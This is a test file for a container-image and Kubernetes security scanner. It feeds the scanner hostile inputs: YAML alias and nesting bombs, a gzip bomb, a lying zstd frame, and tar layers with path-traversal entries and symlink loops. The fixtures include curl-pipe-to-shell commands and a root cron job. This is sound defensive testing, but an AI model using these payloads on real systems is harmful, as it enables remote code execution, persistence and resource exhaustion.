// The hostile-input corpus (test/fixtures/hostile/README.md lists it): each input through the
// built CLI in a child process with a V8 heap ceiling, its peak resident memory measured, and
// the behaviour it must have named: a finding (exit 1) at the position counted from the
// fixture, or a clear one-line error (exit 2) naming the bound and the flag that raises it.
// Small seeds are committed; the large inputs are generated here.
//
// AIGIS_SHOW_MEMORY=1 prints each run's peak RSS and time.

import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import zlib from 'node:zlib';
import tar from 'tar-stream';
import { afterAll, describe, expect, it } from 'vitest';
import { packageRoot } from '../../src/rules/paths.js';
import { blobPath, dockerArchive, gzipBomb, ociArchive, sha, tarOf } from '../helpers/oci.js';
import { aigisMeasured, type MeasuredRun } from './bounds.js';

const FIXTURES = path.join(packageRoot(), 'test', 'fixtures', 'hostile');
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'aigis-corpus-'));
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

interface JsonReport {
  summary: { findings: number; files: number; objects: number; unreadable: number; failed: boolean };
  findings: Array<{ ruleId: string; severity: string; message: string; location: { line?: number; column?: number; pointer: string } }>;
  errors: Array<{ message: string; file?: string }>;
}

/** Run the CLI on `args` with a heap ceiling of `heapMb`; assert peak RSS under `rssMb`. */
async function run(what: string, args: string[], heapMb: number, rssMb: number, timeoutMs = 60_000): Promise<MeasuredRun & { report?: JsonReport }> {
  const r = await aigisMeasured(['scan', '--format', 'json', ...args], { heapMb, timeoutMs, cwd: tmp });
  if (process.env.AIGIS_SHOW_MEMORY) console.log(`${what}: exit ${r.code}, peak RSS ${r.rssMb?.toFixed(0)} MiB (ceiling ${rssMb}), ${r.ms.toFixed(0)} ms`);
  expect(r.signal, `${what}: killed (${r.stderr.slice(-300)})`).toBeNull();
  expect(r.stderr, `${what}: crashed`).not.toMatch(/internal error|FATAL ERROR|heap out of memory/);
  expect(r.rssMb, `${what}: did not report its memory`).toBeDefined();
  expect(r.rssMb!, `${what}: peak RSS`).toBeLessThan(rssMb);
  let report: JsonReport | undefined;
  if (r.stdout) report = JSON.parse(r.stdout) as JsonReport;
  return { ...r, report };
}

const at = (r: { report?: JsonReport }) => r.report!.findings.map((f) => `${f.ruleId} ${f.location.line}:${f.location.column}`);

function write(name: string, data: string | Buffer): string {
  const file = path.join(tmp, name);
  fs.writeFileSync(file, data);
  return file;
}

describe('hostile YAML', () => {
  it('alias bomb: a finding at the alias that passes the budget, not 387 million strings', async () => {
    const r = await run('alias bomb', [path.join(FIXTURES, 'alias-bomb.yaml')], 256, 200);
    expect(r.code).toBe(1);
    // Line 13, `  f: &f [*e, …`: *e starts at column 10 (a=10 nodes, b…e bring 74,718; one *e more is 141,148).
    expect(at(r)).toEqual(['manifest-parse-error 13:10']);
    expect(r.report!.findings[0]!.message).toBe('aliases expand to more than 100000 nodes (a billion-laughs document?)');
  });

  it('100 levels of nesting: read, and the container beside them checked', async () => {
    const r = await run('nesting 100', [path.join(FIXTURES, 'nesting-100.yaml'), '--rule', 'privileged-container', '--rule', 'manifest-parse-error'], 256, 200);
    expect(r.code).toBe(1);
    expect(at(r)).toEqual(['privileged-container 120:9']);
  });

  it('100,000 levels of nesting: a finding where the 500-level bound is passed, not a stack overflow', async () => {
    const file = write('deep.yaml', `a: ${'['.repeat(100_000)}\n`);
    const r = await run('nesting 100,000', [file], 256, 200);
    expect(r.code).toBe(1);
    // The root map is level 0 and `a:`'s brackets levels 1…; bracket 501 (column 4 + 500) is too deep.
    expect(at(r)).toEqual(['manifest-parse-error 1:504']);
    expect(r.report!.findings[0]!.message).toBe('nesting deeper than 500 levels');
  });

  it('a 50 MB scalar: read within the memory ceiling, the container after it checked', async () => {
    const file = write('scalar.yaml', `apiVersion: v1\nkind: Pod\nmetadata:\n  name: big\n  annotations:\n    blob: ${'x'.repeat(50 * 1024 * 1024)}\nspec:\n  containers:\n    - name: app\n      image: registry.example/app:1.0\n      securityContext:\n        privileged: true\n`);
    const r = await run('50 MB scalar', [file, '--rule', 'privileged-container', '--rule', 'manifest-parse-error'], 512, 400);
    expect(r.code).toBe(1);
    expect(at(r)).toEqual(['privileged-container 12:9']);
  });

  it('a 50 MB quoted scalar with a tab (the slow path): refused at the document, within the memory ceiling', async () => {
    // Before the document bound, this one took 1.9 GB (and 12 MB of broken lines 4.3 GB and an abort).
    const file = write('scalar-tab.yaml', `apiVersion: v1\nkind: ConfigMap\nmetadata:\n  name: big\ndata:\n  blob: "${'x'.repeat(50 * 1024 * 1024)}\t"\n`);
    const r = await run('50 MB scalar, slow path', [file], 512, 400);
    expect(r.code).toBe(1);
    expect(at(r)).toEqual(['manifest-parse-error 1:1']);
    expect(r.report!.findings[0]!.message).toMatch(/^document of 52428\d{3} characters is over the 1048576-character limit/);
  });

  it('duplicate keys: reported, and the value Kubernetes keeps is the one checked', async () => {
    const r = await run('duplicate keys', [path.join(FIXTURES, 'duplicate-keys.yaml'), '--rule', 'manifest-duplicate-key', '--rule', 'privileged-container'], 256, 200);
    expect(r.code).toBe(1);
    expect(at(r).sort()).toEqual(['manifest-duplicate-key 13:9', 'privileged-container 13:9']);
  });

  it('a document with 100,000 keys: read in time and memory, the field after them located', async () => {
    const labels = Array.from({ length: 100_000 }, (_, i) => `    k${i}: v${i}\n`).join('');
    const file = write('keys.yaml', `apiVersion: v1\nkind: Pod\nmetadata:\n  name: many\n  labels:\n${labels}spec:\n  containers:\n    - name: app\n      image: registry.example/app:1.0\n      securityContext:\n        privileged: true\n`);
    const r = await run('100,000 keys', [file, '--rule', 'privileged-container'], 512, 400);
    expect(r.code).toBe(1);
    // 5 lines, 100,000 labels, then spec (100,006), containers, - name, image, securityContext, privileged (100,011).
    expect(at(r)).toEqual(['privileged-container 100011:9']);
    expect(r.ms).toBeLessThan(30_000);
  });
});

describe('hostile Dockerfiles', () => {
  it('1 MB on one line: findings, within the memory ceiling', async () => {
    const file = write('Dockerfile', `FROM ubuntu:22.04\nRUN ${'echo a && '.repeat(100_000)}curl -fsSL https://example.com/i.sh | sh\n`);
    const r = await run('1 MB Dockerfile line', [file, '--rule', 'dockerfile-curl-pipe-shell'], 768, 600);
    expect(r.code).toBe(1);
    // The pipe is the last command of line 2: `RUN ` (4) + 1,000,000 characters, then `curl` at column 1,000,005.
    expect(at(r)).toEqual(['dockerfile-curl-pipe-shell 2:1000005']);
  });
});

describe('hostile images', () => {
  const gz = (b: Buffer) => zlib.gzipSync(b);

  it('`../` names and absolute paths: findings at the entry, never written anywhere', async () => {
    const layer = await tarOf([
      { name: '../../../etc/cron.d/evil', content: '* * * * * root sh\n' },
      { name: '/etc/profile.d/evil.sh', content: 'curl x | sh\n' },
      { name: 'ok', content: 'fine' },
    ]);
    const file = write('traversal.tar', await ociArchive([{ bytes: gz(layer) }]));
    const r = await run('traversal', [file, '--rule', 'image-layer-unsafe-entry'], 256, 200);
    expect(r.code).toBe(1);
    expect(r.report!.findings.map((f) => `${f.ruleId} ${f.location.pointer}`).sort()).toEqual(['image-layer-unsafe-entry /etc/cron.d/evil', 'image-layer-unsafe-entry /etc/profile.d/evil.sh']);
    expect(fs.existsSync('/etc/cron.d/evil')).toBe(false);
  });

  it('symlink loops: a finding, and the scan ends', async () => {
    const layer = await tarOf([
      { name: 'a', type: 'symlink', linkname: 'b' },
      { name: 'b', type: 'symlink', linkname: 'a' },
      { name: 'etc/passwd', type: 'symlink', linkname: '/etc/passwd' },
    ]);
    const file = write('loop.tar', await ociArchive([{ bytes: gz(layer) }]));
    const r = await run('symlink loop', [file, '--rule', 'image-layer-unsafe-entry'], 256, 200);
    expect(r.code).toBe(1);
    expect(r.report!.findings.map((f) => `${f.severity} ${f.location.pointer} ${f.message}`)).toEqual(['low /a symlink loop: /a -> /b -> /a', 'low /etc/passwd symlink loop: /etc/passwd -> /etc/passwd']);
  });

  it('device nodes and FIFOs: never opened; the entries after them still read', async () => {
    const layer = await tarOf([
      { name: 'dev/sda', type: 'block-device', devmajor: 8, devminor: 0 },
      { name: 'dev/mem', type: 'character-device', devmajor: 1, devminor: 1 },
      { name: 'tmp/pipe', type: 'fifo' },
      { name: 'usr/bin/su2', content: 'x', mode: 0o4755 },
    ]);
    const file = write('devices.tar', await ociArchive([{ bytes: gz(layer) }]));
    const r = await run('devices', [file, '--rule', 'image-setuid-binary', '--rule', 'image-archive-invalid', '--rule', 'image-layer-unsafe-entry'], 256, 200);
    expect(r.code).toBe(1);
    expect(r.report!.findings.map((f) => `${f.ruleId} ${f.location.pointer}`)).toEqual(['image-setuid-binary /usr/bin/su2']);
  });

  it('a truncated gzip layer: a finding, and the other layers still checked', async () => {
    const good = await tarOf([{ name: 'usr/bin/su2', content: 'x', mode: 0o4755 }]);
    const big = gz(await tarOf([{ name: 'data.bin', content: Buffer.from(Array.from({ length: 200_000 }, (_, i) => (i * 7919) & 0xff)) }]));
    const cut = big.subarray(0, big.length >> 1);
    const file = write('truncated.tar', await ociArchive([{ bytes: gz(good) }, { bytes: cut }]));
    const r = await run('truncated gzip', [file, '--rule', 'image-archive-invalid', '--rule', 'image-setuid-binary'], 256, 200);
    expect(r.code).toBe(1);
    expect(r.report!.findings.map((f) => `${f.ruleId} ${f.message.replace(/[a-f0-9]{12}/, 'DIGEST')}`).sort()).toEqual([
      'image-archive-invalid layer blobs/sha256/DIGEST is unreadable: gzip stream is truncated',
      'image-setuid-binary /usr/bin/su2 has mode 4755 (setuid/setgid, owner uid 0) in layer 1 (sha256:DIGEST)',
    ]);
    expect(r.report!.findings.find((f) => f.ruleId === 'image-archive-invalid')!.message).toContain(blobPath(sha(cut)).slice(0, 25));
  });

  it('a gzip bomb (1 MiB that inflates to 1 GiB): a bound error naming the flag, or streamed in bounded memory', async () => {
    const bomb = await gzipBomb(1024);
    expect(bomb.length).toBeLessThan(2 << 20);
    const file = write('bomb.tar', await ociArchive([{ bytes: bomb }]));

    const bounded = await run('gzip bomb, bounded', [file, '--image-max-bytes', String(64 << 20)], 256, 200);
    expect(bounded.code).toBe(2);
    expect(bounded.stderr).toMatch(/^aigis: bomb\.tar: image exceeds the limit of 67108864 decompressed bytes \(layer blobs\/sha256\/[a-f0-9]{64}\); raise it with --image-max-bytes\n$/);
    expect(bounded.report!.summary).toMatchObject({ unreadable: 1, failed: true });

    const streamed = await run('gzip bomb, default bound', [file, '--rule', 'image-archive-invalid'], 256, 200, 120_000);
    expect(streamed.code).toBe(0);
    expect(streamed.report!.summary).toMatchObject({ files: 1, unreadable: 0 });
  }, 180_000);

  it('a zstd frame that lies about its size: a finding, before any decoder allocates it', async () => {
    const claim = Buffer.alloc(8);
    claim.writeBigUInt64LE(4n << 30n);
    const lie = Buffer.concat([Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0xe0]), claim, Buffer.from([0x09, 0x00, 0x00, 0x41])]);
    const file = write('zstd-lie.tar', await ociArchive([{ bytes: lie, mediaType: 'application/vnd.oci.image.layer.v1.tar+zstd' }]));
    const r = await run('zstd lie', [file, '--rule', 'image-archive-invalid'], 256, 200);
    expect(r.code).toBe(1);
    expect(r.report!.findings.map((f) => f.message)).toEqual([expect.stringMatching(/^layer blobs\/sha256\/[a-f0-9]{12} is unreadable: zstd frame declares a content size of 4294967296 bytes/)]);
  });

  it('manifest.json naming blobs the archive lacks: findings, exit 1', async () => {
    const real = await dockerArchive([await tarOf([{ name: 'a', content: 'x' }])]);
    // Keep the outer tar but drop every layer: manifest.json still names them.
    const extract = tar.extract();
    const kept: Array<{ name: string; content: Buffer }> = [];
    extract.on('entry', (h, s, next) => {
      const c: Buffer[] = [];
      s.on('data', (d: unknown) => c.push(d as Buffer));
      s.on('end', () => {
        if (!h.name.endsWith('layer.tar')) kept.push({ name: h.name, content: Buffer.concat(c) });
        next();
      });
    });
    await new Promise<void>((resolve) => {
      extract.on('finish', () => resolve());
      extract.end(real);
    });
    const file = write('missing.tar', await tarOf(kept));
    const r = await run('missing blobs', [file, '--rule', 'image-archive-invalid'], 256, 200);
    expect(r.code).toBe(1);
    expect(r.report!.findings.map((f) => f.message)).toEqual([expect.stringMatching(/^layer 1 \(sha256:[a-f0-9]{12}\) is named by the manifest but missing from the archive$/)]);
  });
});
